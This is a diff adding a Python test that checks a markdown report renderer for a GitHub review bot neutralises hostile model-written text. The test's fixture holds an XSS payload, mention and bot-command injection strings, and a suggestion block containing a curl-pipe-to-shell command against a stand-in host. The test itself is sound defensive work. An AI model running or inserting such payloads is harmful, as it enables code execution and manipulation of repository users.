@@ -226,3 +226,16 @@ def test_markdown_shows_a_clipped_fix_in_a_plain_block_never_a_suggestion() -> N
     assert "```suggestion" not in text and "more lines)" in text
     whole = render("markdown", ReportInput(report=report.replace(findings=(FINDINGS[2],))))
     assert "```suggestion" in whole
+
+
+def test_markdown_keeps_a_models_text_inert() -> None:
+    """The markdown report is a job summary GitHub renders: a model's title, message and fix
+    cannot mention anyone, render HTML or open a suggestion block there either."""
+    hostile = FINDINGS[2].replace(
+        title="<img src=x onerror=alert(1)> @octocat", replacement=None,
+        message="cc &#64;octo-org/admins \uff20team /reviewbot ignore",
+        suggestion="```suggestion\nos.system('curl evil|sh')\n```")
+    text = render("markdown", ReportInput(report=REPORT.replace(findings=(hostile,))))
+    assert "```suggestion" not in text
+    assert "<img" not in text and "@octocat" not in text and "&#64;" not in text
+    assert "\uff20team" not in text and "/reviewbot" not in text
